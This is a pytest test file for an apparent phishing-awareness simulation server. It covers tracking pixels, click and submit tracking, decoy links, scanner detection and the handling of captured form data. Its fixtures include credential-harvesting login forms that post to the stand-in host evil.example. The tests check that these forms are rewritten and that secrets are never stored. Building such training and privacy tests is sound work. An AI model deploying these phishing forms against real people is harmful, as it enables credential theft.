"""Hit tracking (issue 4): pixel, click, landing-page submit, report, decoy, the
classification of hits as human or automated, reclassification, red flags and the
teaching page - over HTTP against the real server (/work/brief/tracking.md).

The module server runs with PHISHDRILL_PHISH_SCANNER_WINDOW_SECONDS=0: the tests play a
person who opens and clicks right after delivery, which the default 10 s window would
mark automated (that rule has its own test on a default server). Phish requests carry a
browser User-Agent and - where the client IP matters (burst rule, event "ip") - come
from a fresh loopback source address per test (tracking_support.fresh_ip).
"""

from __future__ import annotations

import os
import time
from pathlib import Path

import pytest

from campaign_support import (
    CAMPAIGNS,
    create_campaign,
    launch,
    make_group,
    make_template,
    outbox_profile,
    recipients,
    smtp_profile,
    summary,
    wait_settled,
)
from harness import Server, expect, expect_error, random_password, uniq, wait_until
from tracking_support import (
    BROWSER_UA,
    HUMAN_ENV,
    NOT_FOUND_BODY,
    HtmlScan,
    PhishClient,
    classify,
    fresh_ip,
    funnel,
    get_template,
    is_hidden,
    message_parts,
    only,
    outbox_rids,
    recipient,
    recipient_by_email,
    recipient_events,
    rid_of,
)

PAGES = "/api/v1/pages"
EVIL_FORM = ('<html><body><h1>Sign in</h1><form action="https://evil.example/login">'
             '<input name="username"><input type="password" name="pw_field">'
             '<input name="one_time_code"><input name="department"></form></body></html>')
RED_FLAG = {"part": "subject", "text": "urgent", "explanation": "Pressure to act fast"}


@pytest.fixture(scope="module")
def server():
    s = Server(name="pd-track", extra_env=HUMAN_ENV)
    s.start()
    try:
        yield s
    finally:
        s.cleanup()


# --------------------------------------------------------------------------- helpers


def make_page(api, html=EVIL_FORM, capture="values", redirect_url="", safe_fields=(),
              allow_scripts=False) -> dict:
    return expect(api.post(PAGES, json={"name": uniq("page"), "html": html, "capture": capture,
                                        "redirect_url": redirect_url,
                                        "safe_fields": list(safe_fields),
                                        "allow_scripts": allow_scripts}), 201)


def outbox_campaign(api, server, n: int, page: dict | None = None, tmpl: dict | None = None,
                    **over) -> dict:
    """Launch an n-recipient campaign through an outbox profile, wait until every message
    is written; returns {"cid", "rids": email -> rid, "rcpts": email -> recipient}."""
    tmpl = tmpl or make_template(api)
    group = make_group(api, n)
    if page is not None:
        over["page_id"] = page["id"]
    c = create_campaign(api, [tmpl["id"]], [group["id"]], outbox_profile(api)["id"], **over)
    launch(api, c["id"])
    s = wait_settled(api, c["id"], 30)
    assert s["sent"] == n, s
    rids = outbox_rids(server.data_dir, group["emails"])
    rcpts = recipient_by_email(api, c["id"])
    assert set(rids) == set(rcpts), (sorted(rids), sorted(rcpts))
    return {"cid": c["id"], "rids": rids, "rcpts": rcpts, "emails": group["emails"],
            "template": tmpl}


def the_event(api, cid: int, rcpt_id: int, kind: str) -> dict:
    return only(recipient_events(api, cid, rcpt_id), kind)


def kinds(evs) -> list[str]:
    return [e["kind"] for e in evs]


def assert_404(r):
    assert r.status_code == 404, (r.request.method, r.request.url, r.status_code, r.text[:300])
    assert r.content == NOT_FOUND_BODY, (r.request.url, r.content[:300])
    assert r.headers.get("Content-Type", "").startswith("text/plain"), r.headers


def headers_without_date(r) -> dict:
    return {k.lower(): v for k, v in r.headers.items() if k.lower() != "date"}


# --------------------------------------------------------------------------- 1. end to end


def test_end_to_end_sink_pixel_click_submit_no_secret_anywhere(make_server, make_sink):
    srv = make_server(extra_env=HUMAN_ENV, name="pd-track-e2e")
    api = srv.api()
    sink = make_sink()
    base = srv.phish_url
    profile = smtp_profile(api, sink)
    tmpl = make_template(api, subject="urgent: password expiry for {{.FirstName}}",
                         html='<p>Dear {{.FirstName}},</p><p><a href="{{.URL}}">Keep my '
                              'password</a></p>{{.Tracker}}',
                         text="Dear {{.FirstName}}, keep your password: {{.URL}}",
                         red_flags=[RED_FLAG])
    page = make_page(api, safe_fields=["username", "department"])
    group = make_group(api, 3)
    c = create_campaign(api, [tmpl["id"]], [group["id"]], profile["id"], page_id=page["id"])
    cid = c["id"]
    launch(api, cid)
    assert sink.wait_for_count(3, 30) >= 3, "3 messages not delivered to the sink"
    s = wait_settled(api, cid, 30)
    assert s["sent"] == 3, s

    email = group["emails"][1]
    msgs = [m for m in sink.messages() if m.rcpt_tos[0].lower() == email]
    assert len(msgs) == 1, msgs
    parts = message_parts(msgs[0].msg)
    assert set(parts) == {"text/plain", "text/html"}, parts
    rid = rid_of(parts["text/plain"])
    assert len(rid) == 22, rid
    rcpt = recipient_by_email(api, cid)[email]

    scan = HtmlScan(parts["text/html"])
    visible = [a for a in scan.links if not is_hidden(a)]
    hidden = [a for a in scan.links if is_hidden(a)]
    assert [a["href"] for a in visible] == [f"{base}/?rid={rid}"], scan.links
    # the hidden decoy link every HTML message carries
    assert [a["href"] for a in hidden] == [f"{base}/r?rid={rid}"], \
        f"no hidden decoy link <a href=\"{base}/r?rid={rid}\" style=\"display:none\">: " \
        f"{parts['text/html']}"
    assert hidden[0].get("aria-hidden") == "true" and hidden[0].get("tabindex") == "-1", hidden
    pixels = [i["src"] for i in scan.images if "track" in i.get("src", "")]
    assert pixels == [f"{base}/track?rid={rid}"], scan.images

    person = PhishClient(base, source_ip=fresh_ip())
    r = person.get(pixels[0])
    assert r.status_code == 200 and r.headers["Content-Type"] == "image/gif", r.headers
    assert r.content.startswith(b"GIF8"), r.content[:20]

    r = person.get(visible[0]["href"])
    assert r.status_code == 200 and r.headers["Content-Type"].startswith("text/html"), r.text
    assert "evil.example" not in r.text, r.text
    forms = HtmlScan(r.text).forms
    assert len(forms) == 1, r.text
    assert forms[0]["action"] == f"{base}/?rid={rid}", forms[0]
    assert forms[0].get("method", "").lower() == "post", forms[0]
    assert [i["name"] for i in forms[0]["inputs"]] == ["username", "pw_field", "one_time_code",
                                                       "department"], forms[0]

    secret = "Zq" + random_password(24)
    r = person.post(forms[0]["action"], data={"username": "alice", "pw_field": secret,
                                              "one_time_code": "123456",
                                              "department": "Pharmacy"})
    # no redirect_url: the teaching page
    assert r.status_code == 200, r.text[:500]
    assert "This was a phishing simulation" in r.text
    assert secret not in r.text and "123456" not in r.text

    got = recipient(api, cid, rcpt["id"])
    assert got["result"] == "submitted", got
    for k in ("opened_at", "clicked_at", "submitted_at"):
        assert got[k], (k, got)
    assert got["reported_at"] is None, got
    others = [x for x in recipients(api, cid) if x["id"] != rcpt["id"]]
    assert all(x["result"] == "none" and x["opened_at"] is None for x in others), others

    s = summary(api, cid)
    assert funnel(s) == (1, 1, 1, 0), s
    assert s["automated_events"] == 0, s

    evs = recipient_events(api, cid, rcpt["id"])
    assert kinds(evs) == ["sent", "opened", "clicked", "submitted"], evs
    assert [e["id"] for e in evs] == sorted(e["id"] for e in evs), evs
    assert [e["at"] for e in evs] == sorted(e["at"] for e in evs), evs
    for e in evs:
        assert e["automated"] is False, e
    for e in evs[1:]:
        assert e["ip"] == person.source_ip and e["user_agent"] == BROWSER_UA, e
    sub = evs[3]
    assert sub["details"] == {"fields": ["username", "pw_field", "one_time_code", "department"],
                              "values": {"username": "alice", "department": "Pharmacy"}}, sub
    all_events = expect(api.get(f"{CAMPAIGNS}/{cid}/events", params={"limit": 500}), 200)
    assert secret not in str(all_events) and "123456" not in str(all_events)

    # The secret (and the one-time code) must be nowhere on disk.
    srv.stop()
    store_file = srv.dump_store()
    files = [p for p in Path(srv.data_dir).rglob("*") if p.is_file()]
    names = {p.name for p in files}
    assert store_file in names and "phishdrill.log" in names, names
    for p in files:
        data = p.read_bytes()
        for needle in (secret, "123456"):
            for enc in (needle.encode(), needle.encode("utf-16-le")):
                i = data.find(enc)
                assert i < 0, (f"{needle!r} found in {p} at {i}: "
                               f"{data[max(0, i - 80):i + 80]!r}")
    print(f"\nsecret absent from {len(files)} files: {sorted(names)}")


# --------------------------------------------------------------------------- capture rules


def test_submit_capture_secret_names_and_form_rewrite(api, server):
    html = ('<form method="get" action="/elsewhere"><input name="email"></form>'
            '<p>text</p><FORM ACTION="https://evil.example/2"><input name="city">'
            '<input type="password" name="whatever"></FORM><form><input name="x"></form>')
    plain = {"email": "alice@example.test", "city": "Springfield", "full_name": "Alice A",
             "note": "hello"}
    page = make_page(api, html=html, capture="values", safe_fields=plain)
    x = outbox_campaign(api, server, 1, page=page)
    email, rid = next(iter(x["rids"].items()))
    base = server.phish_url
    person = PhishClient(base, source_ip=fresh_ip())
    r = person.hit("click", rid)
    assert r.status_code == 200, r.text
    forms = HtmlScan(r.text).forms
    assert len(forms) == 3, r.text
    for f in forms:
        assert f["action"] == f"{base}/?rid={rid}" and f.get("method", "").lower() == "post", f
    assert "evil.example" not in r.text and "/elsewhere" not in r.text, r.text

    secret_names = ["whatever", "Pass-Word", "user_PIN", "card.number", "CVV2", "pw",
                    "mfa-token", "security_question", "IBAN", "One Time Code", "api_key",
                    "SSN", "social", "pwd", "otp", "secretSauce", "2FA", "my answer",
                    "Account", "cvc", "credit", "kennwort", "senha", "wachtwoord", "pw2", "p",
                    "p4ssw0rd", "username"]
    data = {n: f"S3cr3t-{i}-{random_password(10)}" for i, n in enumerate(secret_names)}
    data.update(plain)
    data["empty_field"] = ""
    r = person.hit("submit", rid, data=data)
    assert r.status_code == 200 and "This was a phishing simulation" in r.text, r.text[:300]
    sub = the_event(api, x["cid"], x["rcpts"][email]["id"], "submitted")
    assert sub["automated"] is False, sub
    d = sub["details"]
    assert set(d) == {"fields", "values"}, d
    assert sorted(d["fields"]) == sorted(n for n, v in data.items() if v), d
    vals = d["values"]
    leaked = {k: v for k, v in vals.items() if k in secret_names}
    assert not leaked, f"secret-named fields captured with their values: {leaked}"
    for k, v in plain.items():
        assert vals.get(k) == v, (k, vals)
    assert set(vals) <= set(plain) | {"empty_field"}, vals
    text = str(recipient_events(api, x["cid"], x["rcpts"][email]["id"]))
    for v in (data[n] for n in secret_names):
        assert v not in text, v


def test_valueless_form_action_keeps_the_page_and_no_password(api, server):
    """The reviewed case: `<form action class="login">` once overwrote the markup after
    it and the password input's name, and the password was stored under capture values."""
    html = ('<html><body><form action class="login"><input name="username">'
            '<input type=password name=pw><button>Sign in</button></form>'
            '<p id="after">after the form</p></body></html>')
    page = make_page(api, html=html, capture="values", safe_fields=["username"])
    x = outbox_campaign(api, server, 1, page=page)
    email, rid = next(iter(x["rids"].items()))
    person = PhishClient(server.phish_url, source_ip=fresh_ip())
    r = person.hit("click", rid)
    assert r.status_code == 200, r.text
    assert '<input type=password name=pw><button>Sign in</button></form><p id="after">' in r.text
    forms = HtmlScan(r.text).forms
    assert len(forms) == 1, r.text
    assert forms[0]["action"] == f"{server.phish_url}/?rid={rid}", forms[0]
    assert [i["name"] for i in forms[0]["inputs"]] == ["username", "pw"], forms[0]
    secret = "Zq" + random_password(20)
    r = person.post(forms[0]["action"], data={"username": "ada", "pw": secret})
    assert r.status_code == 200, r.text[:300]
    sub = the_event(api, x["cid"], x["rcpts"][email]["id"], "submitted")
    assert sub["details"] == {"fields": ["username", "pw"], "values": {"username": "ada"}}, sub
    assert secret not in str(recipient_events(api, x["cid"], x["rcpts"][email]["id"]))


def _csp(r) -> dict[str, str]:
    header = r.headers.get("Content-Security-Policy", "")
    assert header, (r.request.method, r.request.url, r.status_code, dict(r.headers))
    out = {}
    for part in header.split(";"):
        words = part.split()
        if words:
            out[words[0]] = " ".join(words[1:])
    return out


def test_content_security_policy_on_every_phish_answer(api, server):
    page = make_page(api, redirect_url="https://example.test/thanks")
    x = outbox_campaign(api, server, 1, page=page)
    _, rid = next(iter(x["rids"].items()))
    plain = outbox_campaign(api, server, 1)  # no landing page: the teaching page
    _, plain_rid = next(iter(plain["rids"].items()))
    person = PhishClient(server.phish_url, source_ip=fresh_ip())

    landing = person.hit("click", rid)
    assert landing.status_code == 200, landing.text
    policy = _csp(landing)
    assert policy["form-action"] == "'self'" and policy["connect-src"] == "'self'", policy
    assert policy["object-src"] == "'none'" and policy["frame-src"] == "'none'", policy
    assert policy["default-src"] == "'none'" and policy["frame-ancestors"] == "'none'", policy
    assert policy["script-src"].startswith("'nonce-") and len(policy["script-src"].split()) == 1
    for kind in ("img-src", "style-src", "font-src"):
        assert "*" in policy[kind].split(), (kind, policy)  # cloned pages keep their look
    again = _csp(person.hit("click", rid))
    assert again["script-src"] != policy["script-src"], "the nonce must be fresh per answer"

    others = {
        "pixel": person.hit("pixel", rid),
        "teaching": person.hit("click", plain_rid),
        "submit teaching": person.hit("submit", plain_rid, data={"a": "b"}),
        "submit redirect": person.hit("submit", rid, data={"a": "b"}),
        "decoy": person.hit("decoy", rid),
        "report": person.hit("report", rid),
        "unknown rid": person.hit("click", "nonexistentrid000000000"),
        "unknown path": person.get("/wp-admin"),
        "healthz": person.get("/healthz"),
        "headers too large": person.get("/", headers={"X-Big": "a" * 20000}),
    }
    assert others["headers too large"].status_code == 431, others["headers too large"]
    for what, r in others.items():
        assert r.status_code < 500, (what, r.status_code)
        p = _csp(r)
        assert p.get("default-src") == "'none'", (what, p)
        assert "script-src" not in p, (what, p)  # no script runs on any of them
        assert p.get("frame-ancestors") == "'none'", (what, p)


def test_allowed_page_scripts_still_post_only_to_the_phish_server(api, server):
    page = make_page(api, html="<form><input name=u></form><script>var a=1</script>",
                     allow_scripts=True)
    x = outbox_campaign(api, server, 1, page=page)
    _, rid = next(iter(x["rids"].items()))
    r = PhishClient(server.phish_url, source_ip=fresh_ip()).hit("click", rid)
    policy = _csp(r)
    assert "'unsafe-inline'" in policy["script-src"].split(), policy
    assert "nonce-" not in policy["script-src"], "a nonce would switch 'unsafe-inline' off"
    assert policy["form-action"] == "'self'" and policy["connect-src"] == "'self'", policy
    assert policy["object-src"] == "'none'" and policy["worker-src"] == "'none'", policy


@pytest.mark.parametrize("capture", ["none", "fields"])
def test_submit_capture_modes_and_redirect(api, server, capture):
    page = make_page(api, capture=capture, redirect_url="https://example.test/thanks")
    x = outbox_campaign(api, server, 1, page=page)
    email, rid = next(iter(x["rids"].items()))
    person = PhishClient(server.phish_url, source_ip=fresh_ip())
    r = person.hit("submit", rid, data={"username": "bob", "pw_field": "hunter2hunter2",
                                        "department": ""})
    # A navigation, not a 303: form-action 'self' would stop a redirect of the POST.
    assert r.status_code == 200, (r.status_code, r.text[:300])
    assert ('<meta http-equiv="refresh" content="0;url=https://example.test/thanks">'
            in r.text), r.text
    rc = x["rcpts"][email]
    evs = recipient_events(api, x["cid"], rc["id"])
    sub = only(evs, "submitted")
    if capture == "none":
        assert sub["details"] == {}, sub
    else:
        assert sub["details"] == {"fields": ["username", "pw_field"]}, sub
    # a submit implies clicked and opened (forward-only funnel)
    got = recipient(api, x["cid"], rc["id"])
    assert got["result"] == "submitted" and got["submitted_at"], got
    assert funnel(summary(api, x["cid"]))[:3] == (1, 1, 1)


# --------------------------------------------------------------------------- 2. report


def test_report_is_separate_from_funnel(api, server):
    x = outbox_campaign(api, server, 3)
    cid = x["cid"]
    (e1, rid1), (e2, rid2), (e3, rid3) = sorted(x["rids"].items())
    person = PhishClient(server.phish_url, source_ip=fresh_ip())

    r = person.hit("report", rid1)
    assert r.status_code == 204 and not r.content, (r.status_code, r.content[:200])
    s = summary(api, cid)
    assert funnel(s) == (0, 0, 0, 1), s
    got = recipient(api, cid, x["rcpts"][e1]["id"])
    assert got["result"] == "none" and got["reported_at"], got
    assert got["opened_at"] is None and got["clicked_at"] is None, got
    ev = the_event(api, cid, got["id"], "reported")
    assert ev["automated"] is False and ev["ip"] == person.source_ip, ev

    # POST works too; a second report by the same person is still one reporter
    r = person.hit("report", rid1, method="POST")
    assert r.status_code == 204, r.status_code
    assert funnel(summary(api, cid)) == (0, 0, 0, 1)

    # clicked, then reported: both counted, the funnel result stays "clicked"
    assert person.hit("click", rid2).status_code == 200
    r = person.hit("report", rid2)
    assert r.status_code == 204
    got2 = recipient(api, cid, x["rcpts"][e2]["id"])
    assert got2["result"] == "clicked" and got2["reported_at"] and got2["clicked_at"], got2
    s = summary(api, cid)
    assert funnel(s) == (1, 1, 0, 2) and s["automated_events"] == 0, s

    # reports: only HEAD / prefetch make them automated - a tool's UA does not
    tool = PhishClient(server.phish_url, source_ip=fresh_ip(), ua="curl/8.0")
    assert tool.hit("report", rid3).status_code == 204
    ev = the_event(api, cid, x["rcpts"][e3]["id"], "reported")
    assert ev["automated"] is False, ev
    r = person.hit("report", rid3, method="HEAD")
    assert r.status_code == 204, r.status_code
    evs = [e for e in recipient_events(api, cid, x["rcpts"][e3]["id"]) if e["kind"] == "reported"]
    assert [e["automated"] for e in evs] == [False, True], evs
    assert "head" in evs[1]["reason"].lower(), evs[1]
    s = summary(api, cid)
    assert funnel(s) == (1, 1, 0, 3) and s["automated_events"] == 1, s


# --------------------------------------------------------------------------- 3. 404s


def test_unknown_garbage_missing_and_completed_rids_404(api, server):
    x = outbox_campaign(api, server, 3)
    cid = x["cid"]
    (e1, rid1), (e2, rid2), (e3, rid3) = sorted(x["rids"].items())
    person = PhishClient(server.phish_url, source_ip=fresh_ip())
    # rid1 is hit (and so looked up) while the campaign runs; rid2 never is
    assert person.hit("pixel", rid1).status_code == 200
    assert person.hit("click", rid1).status_code == 200
    assert person.hit("click", rid3).status_code == 200
    before = {e: recipient_events(api, cid, x["rcpts"][e]["id"]) for e in (e1, e2, e3)}
    s_before = summary(api, cid)

    expect(api.post(f"{CAMPAIGNS}/{cid}/complete"), 200)
    unknown = "A" * 22
    for kind in ("pixel", "click", "report", "decoy"):
        for rid in (unknown, "<script>", "", rid2[:-1], rid2 + "x", "a" * 200):
            assert_404(person.hit(kind, rid))
        assert_404(person.hit(kind, None))  # no rid parameter at all
        r_unknown = person.hit(kind, unknown)
        r_done = person.hit(kind, rid2)
        assert_404(r_done)
        assert_404(r_unknown)
        assert headers_without_date(r_done) == headers_without_date(r_unknown), \
            (kind, dict(r_done.headers), dict(r_unknown.headers))
    assert_404(person.hit("submit", rid2, data={"username": "x"}))
    assert_404(person.hit("submit", unknown, data={"username": "x"}))
    r = person.hit("pixel", unknown, method="HEAD")
    assert r.status_code == 404, r.status_code

    # The rids that were hit during the campaign must be refused just the same.
    answered = []
    for kind in ("pixel", "click", "report", "decoy"):
        for rid in (rid1, rid3):
            r = person.hit(kind, rid)
            if r.status_code != 404 or r.content != NOT_FOUND_BODY:
                answered.append(f"GET {PhishClient.PATHS[kind]}?rid={rid} -> {r.status_code}")
    r = person.hit("submit", rid1, data={"username": "x"})
    if r.status_code != 404:
        answered.append(f"POST /?rid={rid1} -> {r.status_code}")
    after = {e: recipient_events(api, cid, x["rcpts"][e]["id"]) for e in (e1, e2, e3)}
    recorded = {e: kinds(after[e][len(before[e]):]) for e in after if after[e] != before[e]}
    assert not answered and not recorded, (
        f"campaign {cid} is completed, yet hits on rids looked up before completion were "
        f"answered {answered} and recorded as events {recorded}; summary before "
        f"{funnel(s_before)}+{s_before['automated_events']} automated, after "
        f"{funnel(summary(api, cid))}+{summary(api, cid)['automated_events']} automated")
    assert kinds(after[e2]) == ["sent"]


def test_unknown_paths_on_the_phish_server_look_like_any_404(server):
    person = PhishClient(server.phish_url, source_ip=fresh_ip())
    for path in ("/wp-admin", "/admin/login.php", "/api/v1/groups", "/.env", "/learn"):
        assert_404(person.get(path))


def test_cancelled_campaign_rid_404(api, server):
    x = outbox_campaign(api, server, 1)
    email, rid = next(iter(x["rids"].items()))
    person = PhishClient(server.phish_url, source_ip=fresh_ip())
    assert person.hit("pixel", rid).status_code == 200
    n = len(recipient_events(api, x["cid"], x["rcpts"][email]["id"]))
    expect(api.post(f"{CAMPAIGNS}/{x['cid']}/cancel"), 200)
    got = {k: person.hit(k, rid).status_code for k in ("pixel", "click", "report", "decoy")}
    assert got == dict.fromkeys(got, 404), f"cancelled campaign's rid answered: {got}"
    assert len(recipient_events(api, x["cid"], x["rcpts"][email]["id"])) == n


# --------------------------------------------------------------------------- 4. classification


def test_classify_scanner_user_agent_head_and_prefetch(api, server):
    x = outbox_campaign(api, server, 4)
    cid = x["cid"]
    (e1, rid1), (e2, rid2), (e3, rid3), (e4, rid4) = sorted(x["rids"].items())
    ip = fresh_ip()
    curl = PhishClient(server.phish_url, source_ip=ip, ua="curl/8.0")
    assert curl.hit("click", rid1).status_code == 200
    ev = the_event(api, cid, x["rcpts"][e1]["id"], "clicked")
    assert ev["automated"] is True and "curl" in ev["reason"].lower(), ev
    assert ev["user_agent"] == "curl/8.0" and ev["ip"] == ip, ev

    ip2 = fresh_ip()
    person = PhishClient(server.phish_url, source_ip=ip2)
    r = person.hit("click", rid2, method="HEAD")
    assert r.status_code == 200, r.status_code
    ev = the_event(api, cid, x["rcpts"][e2]["id"], "clicked")
    assert ev["automated"] is True and "head" in ev["reason"].lower(), ev
    r = person.hit("pixel", rid2, method="HEAD")
    assert r.status_code == 200, r.status_code
    assert the_event(api, cid, x["rcpts"][e2]["id"], "opened")["automated"] is True

    r = person.hit("click", rid3, headers={"Sec-Purpose": "prefetch"})
    assert r.status_code == 200
    ev = the_event(api, cid, x["rcpts"][e3]["id"], "clicked")
    assert ev["automated"] is True and "prefetch" in ev["reason"].lower(), ev

    r = PhishClient(server.phish_url, source_ip=fresh_ip(), ua=None).hit(
        "click", rid4, headers={"User-Agent": ""})
    assert r.status_code == 200
    ev = the_event(api, cid, x["rcpts"][e4]["id"], "clicked")
    assert ev["automated"] is True and ev["reason"], ev

    s = summary(api, cid)
    assert funnel(s) == (0, 0, 0, 0), s
    assert s["automated_events"] == 5, s
    for e in (e1, e2, e3, e4):
        assert recipient(api, cid, x["rcpts"][e]["id"])["result"] == "none"


def test_colleagues_behind_one_address_stay_people(api, server):
    """Regression (#10, finding 13): six colleagues on the same browser behind one office
    address click their own links within seconds. The address rule may flag them suspect;
    it must never mark them automated nor take them out of the counters."""
    x = outbox_campaign(api, server, 6)
    cid = x["cid"]
    order = sorted(x["rids"].items())
    office = PhishClient(server.phish_url, source_ip=fresh_ip())
    t0 = time.monotonic()
    for email, rid in order:
        assert office.hit("click", rid).status_code == 200
    assert time.monotonic() - t0 < 9, "the clicks took too long to cross the 10 s rule"
    evs = [the_event(api, cid, x["rcpts"][e]["id"], "clicked") for e, _ in order]
    assert [e["automated"] for e in evs] == [False] * 6, evs
    assert all(e["reason"] == "" for e in evs), evs
    # The 5th click crossed the burst threshold: it and the clicks before it in the
    # window are flagged for an operator to look at, and the 6th by the rule itself.
    assert all("recipients within 10 s" in (e["suspect"] or "") for e in evs), evs
    s = summary(api, cid)
    assert funnel(s)[1] == 6 and s["automated_events"] == 0, s


def test_browser_user_agent_without_browser_headers_is_automated(api, server):
    """Regression (#10, finding 13): a scanner minutes after delivery with a browser's user
    agent but not the headers that browser always sends is not a person."""
    x = outbox_campaign(api, server, 3)
    cid = x["cid"]
    (e1, rid1), (e2, rid2), (e3, rid3) = sorted(x["rids"].items())
    library = PhishClient(server.phish_url, source_ip=fresh_ip())
    for header in ("Accept", "Accept-Language"):
        library.headers.pop(header, None)
    assert library.hit("click", rid1).status_code == 200
    ev = the_event(api, cid, x["rcpts"][e1]["id"], "clicked")
    assert ev["automated"] is True and "Accept-Language" in ev["reason"], ev
    # Client hints that contradict the user agent: a Linux sandbox in a Windows disguise.
    hints = {"Sec-CH-UA": '"Chromium";v="124", "Google Chrome";v="124"',
             "Sec-CH-UA-Mobile": "?0", "Sec-CH-UA-Platform": '"Linux"'}
    sandbox = PhishClient(server.phish_url, source_ip=fresh_ip())
    assert sandbox.hit("click", rid2, headers=hints).status_code == 200
    ev = the_event(api, cid, x["rcpts"][e2]["id"], "clicked")
    assert ev["automated"] is True and "client hints say Linux" in ev["reason"], ev
    # The same hints from a real Windows browser are a person.
    person = PhishClient(server.phish_url, source_ip=fresh_ip())
    assert person.hit("click", rid3, headers={**hints, "Sec-CH-UA-Platform": '"Windows"'}
                      ).status_code == 200
    assert the_event(api, cid, x["rcpts"][e3]["id"], "clicked")["automated"] is False
    assert funnel(summary(api, cid))[1] == 1


def test_page_beacon_counts_a_person_the_rules_doubted(api, server):
    """Evidence of a person outranks the rest: the landing page's own beacon, sent after
    the person looked at the page and used it, counts them as having clicked even when
    their click itself was judged a machine's (here: no Accept-Language)."""
    x = outbox_campaign(api, server, 2)
    cid = x["cid"]
    (e1, rid1), (e2, rid2) = sorted(x["rids"].items())
    person = PhishClient(server.phish_url, source_ip=fresh_ip())
    person.headers.pop("Accept-Language")
    assert person.hit("click", rid1).status_code == 200
    assert funnel(summary(api, cid))[1] == 0
    origin = {"Origin": server.phish_url.rstrip("/")}
    # Seen but never used: shows nothing, records nothing.
    r = person.post("/v", params={"rid": rid1}, data={"v": "9000", "i": "0"}, headers=origin)
    assert r.status_code == 204, r.text
    assert kinds(recipient_events(api, cid, x["rcpts"][e1]["id"])) == ["sent", "clicked"]
    r = person.post("/v", params={"rid": rid1}, data={"v": "4200", "i": "3"}, headers=origin)
    assert r.status_code == 204, r.text
    ev = the_event(api, cid, x["rcpts"][e1]["id"], "viewed")
    assert ev["automated"] is False, ev
    got = recipient(api, cid, x["rcpts"][e1]["id"])
    assert got["result"] == "clicked" and got["clicked_at"], got
    assert funnel(summary(api, cid))[1] == 1
    # A beacon posted from another origin is not the page's.
    r = person.post("/v", params={"rid": rid2}, data={"v": "4200", "i": "3"},
                    headers={"Origin": "https://elsewhere.example"})
    assert r.status_code == 204
    ev = the_event(api, cid, x["rcpts"][e2]["id"], "viewed")
    assert ev["automated"] is True and "another origin" in ev["reason"], ev
    assert funnel(summary(api, cid))[1] == 1


def test_classify_decoy_reclassifies_nearby_human_hits(api, server):
    x = outbox_campaign(api, server, 2)
    cid = x["cid"]
    (e1, rid1), (e2, rid2) = sorted(x["rids"].items())
    person = PhishClient(server.phish_url, source_ip=fresh_ip())
    assert person.hit("pixel", rid1).status_code == 200
    assert person.hit("click", rid1).status_code == 200
    assert person.hit("click", rid2).status_code == 200
    s = summary(api, cid)
    assert funnel(s) == (2, 2, 0, 0), s

    time.sleep(2)  # timing is the subject: the decoy follows the click 2 s later
    r = person.hit("decoy", rid1)
    assert r.status_code == 200 and r.headers["Content-Type"].startswith("text/html"), r.headers
    evs = recipient_events(api, cid, x["rcpts"][e1]["id"])
    assert kinds(evs) == ["sent", "opened", "clicked", "decoy"], evs
    for e in evs[1:]:
        assert e["automated"] is True and "decoy" in e["reason"].lower(), e
    got = recipient(api, cid, x["rcpts"][e1]["id"])
    assert got["result"] == "none" and got["clicked_at"] is None, got
    s = summary(api, cid)
    assert funnel(s) == (1, 1, 0, 0), s
    assert s["automated_events"] == 3, s

    # later hits on that recipient (within 300 s) are automated too
    assert person.hit("click", rid1).status_code == 200
    evs = recipient_events(api, cid, x["rcpts"][e1]["id"])
    assert evs[-1]["kind"] == "clicked" and evs[-1]["automated"] is True, evs[-1]
    assert "decoy" in evs[-1]["reason"].lower(), evs[-1]
    # the other recipient is untouched
    assert the_event(api, cid, x["rcpts"][e2]["id"], "clicked")["automated"] is False
    assert funnel(summary(api, cid)) == (1, 1, 0, 0)


def test_classify_hit_right_after_delivery_default_window(make_server):
    srv = make_server(name="pd-track-window")  # default scanner window: 10 s
    api = srv.api()
    x = outbox_campaign(api, srv, 1)
    email, rid = next(iter(x["rids"].items()))
    sent_at = x["rcpts"][email]["sent_at"]
    assert sent_at, x["rcpts"][email]
    person = PhishClient(srv.phish_url, source_ip=fresh_ip())
    assert person.hit("click", rid).status_code == 200
    ev = the_event(api, x["cid"], x["rcpts"][email]["id"], "clicked")
    assert ev["automated"] is True and "after delivery" in ev["reason"].lower(), ev
    s = summary(api, x["cid"])
    assert funnel(s) == (0, 0, 0, 0) and s["automated_events"] == 1, s


def test_x_forwarded_for_ignored_unless_trusted_proxy(api, server, make_server):
    xff = {"X-Forwarded-For": "198.51.100.1, 203.0.113.9"}
    # module server: no trusted proxies - the TCP peer is the client
    x = outbox_campaign(api, server, 1)
    email, rid = next(iter(x["rids"].items()))
    ip = fresh_ip()
    assert PhishClient(server.phish_url, source_ip=ip).hit("click", rid,
                                                           headers=xff).status_code == 200
    ev = the_event(api, x["cid"], x["rcpts"][email]["id"], "clicked")
    assert ev["ip"] == ip, ev

    srv = make_server(extra_env={**HUMAN_ENV, "PHISHDRILL_PHISH_TRUSTED_PROXIES": "127.0.0.1"},
                      name="pd-track-proxy")
    api2 = srv.api()
    y = outbox_campaign(api2, srv, 2)
    (e1, rid1), (e2, rid2) = sorted(y["rids"].items())
    proxy = PhishClient(srv.phish_url, source_ip="127.0.0.1")
    assert proxy.hit("click", rid1, headers=xff).status_code == 200
    ev = the_event(api2, y["cid"], y["rcpts"][e1]["id"], "clicked")
    assert ev["ip"] == "203.0.113.9", ev
    # a peer that is not in the list is not believed
    ip = fresh_ip()
    assert PhishClient(srv.phish_url, source_ip=ip).hit("click", rid2,
                                                        headers=xff).status_code == 200
    ev = the_event(api2, y["cid"], y["rcpts"][e2]["id"], "clicked")
    assert ev["ip"] == ip, ev


# --------------------------------------------------------------------------- 5. reclassify


def test_reclassify_event(api, server, role_keys):
    x = outbox_campaign(api, server, 2)
    cid = x["cid"]
    (e1, rid1), (e2, rid2) = sorted(x["rids"].items())
    person = PhishClient(server.phish_url, source_ip=fresh_ip())
    assert person.hit("pixel", rid1).status_code == 200
    assert person.hit("click", rid1).status_code == 200
    assert person.hit("click", rid2).status_code == 200
    s0 = summary(api, cid)
    assert funnel(s0) == (2, 2, 0, 0), s0
    r1 = x["rcpts"][e1]["id"]
    click = the_event(api, cid, r1, "clicked")
    assert click["automated"] is False

    body = expect(classify(api, cid, click["id"], True), 200)
    assert body["id"] == click["id"] and body["automated"] is True, body
    assert isinstance(body["reason"], str), body
    assert (body["opened"], body["clicked"], body["submitted"], body["reported"]) == \
        (2, 1, 0, 0), body
    s = summary(api, cid)
    assert funnel(s) == (2, 1, 0, 0), s
    assert s["automated_events"] == s0["automated_events"] + 1, s
    got = recipient(api, cid, r1)
